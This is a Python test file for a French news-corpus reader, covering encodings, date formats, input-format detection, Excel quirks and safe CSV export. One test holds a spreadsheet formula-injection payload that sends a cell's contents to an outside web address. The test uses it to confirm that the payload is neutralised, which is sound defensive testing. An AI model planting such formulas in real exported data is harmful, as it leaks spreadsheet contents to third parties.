"""Tables as French offices save them, and formats that are named instead of recognised."""

import io
import sys
from pathlib import Path

import pytest

from osiris_nlp.base.errors import InputError
from osiris_nlp.base.records import Article
from osiris_nlp.corpus import FORMAT_NAMES, read_articles, write_articles

TABLE = "Titre;Texte;Mots-clés;Date;Rubrique\nLa 5G à Thiès;« L’été »\xa0: 5 000 €;Téléphonie|Fintech;14/03/2025;Articles\n"


@pytest.mark.parametrize("encoding", ["cp1252", "utf-8", "utf-8-sig", "utf-16"])
@pytest.mark.parametrize("separator", [";", "\t", ","])
def test_a_french_table_is_read_whatever_its_encoding_and_separator(
    tmp_path: Path, encoding: str, separator: str
) -> None:
    path = tmp_path / "export.csv"
    path.write_bytes(TABLE.replace(";", separator).replace("\n", "\r\n").encode(encoding))

    (article,) = read_articles(path)

    assert (article.title, article.text) == ("La 5G à Thiès", "« L’été » : 5 000 €")
    assert article.labels == ("Téléphonie", "Fintech")
    assert article.date.isoformat() == "2025-03-14"
    assert article.section == "Articles"
    assert article.meta == {}


@pytest.mark.parametrize(
    "day",
    [
        "14/03/2025",
        "2025-03-14",
        "vendredi 14 mars 2025",
        "14-03-2025",
        "14/03/2025 00:00",
        "2025-03-14T08:00",
    ],
)
def test_the_date_formats_of_french_tables_are_read(tmp_path: Path, day: str) -> None:
    path = tmp_path / "jours.csv"
    path.write_text(f"titre;date\nLa 5G à Thiès;{day}\n", encoding="utf-8")

    assert [a.date.isoformat() for a in read_articles(path)] == ["2025-03-14"]


def test_only_the_row_with_broken_utf8_is_a_fault(tmp_path: Path) -> None:
    valid_rows = "".join(f"Thiès {n},été\n" for n in range(20)).encode()
    path = tmp_path / "mixed.csv"
    path.write_bytes(b"title,text\n" + valid_rows + b"Thi\xe8s,x\n")
    faults: list[InputError] = []

    articles = list(read_articles(path, on_fault=faults.append))

    assert len(articles) == 20
    assert [(fault.line, fault.what) for fault in faults] == [
        (22, "Invalid UTF-8: byte 0xe8 at position 3")
    ]


@pytest.mark.parametrize("encoding", ["cp1252", "utf-8", "utf-16"])
def test_plain_text_is_read_whatever_its_encoding(tmp_path: Path, encoding: str) -> None:
    path = tmp_path / "un.txt"
    path.write_bytes("L’été à Thiès\n\nLa fibre coûte 5 €.".encode(encoding))

    (article,) = read_articles(path)

    assert (article.title, article.text) == ("L’été à Thiès", "La fibre coûte 5 €.")


def test_a_named_format_takes_precedence_over_the_extension(tmp_path: Path) -> None:
    path = tmp_path / "export.dat"
    path.write_text(TABLE, encoding="utf-8")

    with pytest.raises(InputError, match=r"Unknown format of 'export.dat'"):
        list(read_articles(path))
    assert [a.title for a in read_articles(path, format="csv")] == ["La 5G à Thiès"]
    with pytest.raises(InputError, match=r"Unknown format 'excel': expected one of jsonl, csv"):
        list(read_articles(path, format="excel"))
    assert FORMAT_NAMES == ("jsonl", "csv", "text", "html", "feed", "parquet", "spip")


@pytest.mark.parametrize(
    ("content", "title"),
    [
        ('{"title": "En JSON", "text": "x"}', "En JSON"),
        (
            "﻿ <?xml version='1.0'?><rss><channel><item><title>Au fil</title></item></channel></rss>",
            "Au fil",
        ),
        ("<h1>En page</h1><p>La fibre arrive.</p>", "En page"),
        ("En clair\n\nLa fibre arrive.", "En clair"),
        (TABLE, "La 5G à Thiès"),
        ("title,text\n<rss><channel><item><title>Au fil</title></item></channel></rss>", "Au fil"),
        ("\ufefftitle,text\nEn table,x\n", "En table"),
    ],
)
def test_the_format_of_standard_input_is_detected(
    monkeypatch: pytest.MonkeyPatch, content: str, title: str
) -> None:
    monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(content.encode())))

    assert [a.title for a in read_articles("-")] == [title]


def test_the_format_of_standard_input_can_be_named(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(TABLE.encode("cp1252"))))

    assert [a.title for a in read_articles("-", format="csv")] == ["La 5G à Thiès"]


def test_a_parquet_table_is_read_from_standard_input(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    write_articles([Article(id="1", title="En Parquet", text="x")], tmp_path / "a.parquet")
    content = io.BytesIO((tmp_path / "a.parquet").read_bytes())
    monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(content))
    write_articles([Article(id="2", title="Un fichier", text="x")], tmp_path / "b.parquet")
    (tmp_path / "b.parquet").rename(tmp_path / "-")
    monkeypatch.chdir(tmp_path)

    assert [a.title for a in read_articles("-")] == ["En Parquet"]


def test_standard_input_is_not_a_spip_site() -> None:
    with pytest.raises(InputError, match="No config/connect.php in '-'"):
        list(read_articles("-", format="spip"))


@pytest.mark.parametrize(
    "table",
    [
        "sep=;\nTitre;Texte\nLa 5G;x\n",
        "\n\nTitre;Texte\nLa 5G;x\n",
        "Titre;Texte;;\nLa 5G;x;;\n",
        "Titre;Contenu\nLa 5G;x\n",
    ],
)
def test_additions_by_excel_are_ignored(tmp_path: Path, table: str) -> None:
    path = tmp_path / "excel.csv"
    path.write_bytes(table.encode("cp1252"))

    assert [(a.title, a.text, a.meta) for a in read_articles(path)] == [("La 5G", "x", {})]


def test_an_overlong_line_is_a_fault_and_the_next_line_is_read(tmp_path: Path) -> None:
    path = tmp_path / "long.jsonl"
    path.write_bytes(b'{"text": "' + b"a" * 40_000_000 + b'"}\n{"text": "Yas ouvre la 5G"}\n')
    faults: list[InputError] = []

    articles = list(read_articles(path, on_fault=faults.append))

    assert [a.text for a in articles] == ["Yas ouvre la 5G"]
    assert [(f.line, f.what) for f in faults] == [(1, "Line longer than 30 MB")]


def test_a_web_address_is_refused_with_a_hint_to_harvest_it() -> None:
    with pytest.raises(InputError, match=r"is a web address: .*corpus harvest"):
        list(read_articles("https://www.osiris.sn/"))


def test_a_mistyped_url_does_not_show_its_password() -> None:
    with pytest.raises(InputError, match=r"No file 'mysql:/lecteur:\*\*\*@base/osiris'"):
        list(read_articles("mysql:/lecteur:secret@base/osiris"))


def test_a_corpus_written_as_csv_has_no_formulas_and_survives_the_round_trip(
    tmp_path: Path,
) -> None:
    formula = '=HYPERLINK("http://exemple.sn/?"&A1;"clic")'
    articles = [
        Article(
            id="@1", title=formula, text="-2+3 et +4", labels=("Fintech",), meta={"=note": "+x"}
        ),
        Article(id="2", title="'=déjà guillemeté", text="", labels=("Wave",)),
    ]

    write_articles(articles, tmp_path / "lot.csv")

    assert f"'{formula}" in (tmp_path / "lot.csv").read_text("utf-8").replace('""', '"')
    assert list(read_articles(tmp_path / "lot.csv")) == articles
